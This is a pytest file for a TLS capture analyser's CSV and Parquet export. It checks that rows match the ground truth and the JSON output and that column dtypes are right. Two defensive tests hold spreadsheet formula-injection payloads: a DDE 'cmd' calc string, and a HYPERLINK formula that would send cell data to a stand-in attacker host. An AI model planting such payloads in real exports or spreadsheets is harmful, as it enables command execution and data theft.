"""--csv and --parquet: one row per connection with the DataFrame's columns and dtypes.

Expectations: the capture's ground truth (expected.json, from the peers that made it) for the
outcome and cause, the JSON output of the same run for every other column, and OWASP's rule for
cells a spreadsheet would run as a formula.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from tests.hostile.hostile_captures import Scenario, _refused_name, hostile_pcap
from tlsdissect.report.tables import FORMULA_STARTS, csv_cell
from tlsdissect.results.model import DATAFRAME_COLUMNS

ROOT = Path(__file__).resolve().parent.parent
CAPTURES = [ROOT / "captures" / n / "capture.pcap" for n in (
    "tls12_missing_intermediate_openssl", "tls13_success", "wide_expired_lighttpd_python", "middlebox_reset")]


def _cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "tlsdissect.cli", *args], capture_output=True, text=True,
                          cwd=ROOT, timeout=300)


def _expected(path: Path) -> dict:
    return json.loads((path.parent / "expected.json").read_text())["expected"]


def test_csv_rows_agree_with_ground_truth_and_json(tmp_path: Path) -> None:
    out = tmp_path / "c.csv"
    run = _cli("--csv", str(out), "--no-color", *map(str, CAPTURES))
    assert run.returncode in (0, 1), run.stderr
    assert run.stdout  # the text view still goes to standard output
    df = pd.read_csv(out, keep_default_na=False)
    assert list(df.columns) == list(DATAFRAME_COLUMNS)
    for path in CAPTURES:
        want = _expected(path)
        rows = df[(df["capture"] == str(path)) & (df["stream"] == want.get("stream", 0))]
        assert len(rows) == 1, path
        row = rows.iloc[0]
        assert row["outcome"] == want["outcome"], path
        assert row["cause"] == want["cause"], path
        doc = json.loads(_cli("--json", str(path)).stdout)
        conn = next(c for c in doc["connections"] if c["stream"] == row["stream"])
        for col in ("client", "server", "version", "cipher", "ssl_history", "first_frame"):
            assert str(row[col]) == str(conn[col] if conn[col] is not None else ""), (path, col)
        assert row["ja3"] == (conn["fingerprints"]["ja3"] or "")


def test_parquet_loads_with_the_dataframe_dtypes(tmp_path: Path) -> None:
    pytest.importorskip("pyarrow")
    import tlsdissect

    out = tmp_path / "c.parquet"
    run = _cli("--parquet", str(out), "--json", *map(str, CAPTURES))
    assert run.returncode in (0, 1), run.stderr
    got = pd.read_parquet(out)
    frames = [tlsdissect.analyze(p).to_dataframe() for p in CAPTURES]
    for p, f in zip(CAPTURES, frames):
        f["capture"] = str(p)
    want = pd.concat(frames, ignore_index=True)
    assert list(got.columns) == list(DATAFRAME_COLUMNS)
    assert len(got) == len(want)
    for col in ("outcome", "cause", "confidence", "version"):
        assert isinstance(got[col].dtype, pd.CategoricalDtype), col
    assert str(got["start_time"].dtype) == "datetime64[ns, UTC]"
    assert str(got["duration"].dtype).startswith("timedelta64")
    assert got["established"].dtype == bool
    assert list(got["cause"].astype(str)) == list(want["cause"].astype(str))
    assert list(got["start_time"]) == list(want["start_time"])


def test_csv_to_standard_output_alone() -> None:
    run = _cli("--csv", "-", str(CAPTURES[0]))
    rows = list(csv.reader(io.StringIO(run.stdout)))
    assert rows[0] == list(DATAFRAME_COLUMNS)
    assert len(rows) == 2
    assert run.returncode == 1  # the handshake failed: the exit status says so as always


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_formula_cells_are_defused(start: str) -> None:
    assert csv_cell(start + "cmd|' /C calc'!A0") == "'" + start + "cmd|' /C calc'!A0"
    assert csv_cell("www.example.com") == "www.example.com"
    assert csv_cell(7) == 7


def test_hostile_server_name_cannot_become_a_formula(tmp_path: Path) -> None:
    sni = "=HYPERLINK(\"http://evil.example/\"&A1)"
    cap = tmp_path / "h.pcap"
    cap.write_bytes(hostile_pcap((Scenario("formula", _refused_name(sni), sni),)))
    run = _cli("--csv", "-", str(cap))
    rows = list(csv.DictReader(io.StringIO(run.stdout)))
    assert rows and rows[0]["server_name"] == "'" + sni


def test_parquet_without_pyarrow_is_a_clear_error(tmp_path: Path) -> None:
    code = ("import sys; sys.modules['pyarrow'] = None; from tlsdissect.cli import main; "
            f"sys.exit(main(['--parquet', {str(tmp_path / 'x.parquet')!r}, {str(CAPTURES[0])!r}]))")
    run = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, timeout=120)
    assert run.returncode == 2
    assert "pyarrow" in run.stderr and "Traceback" not in run.stderr
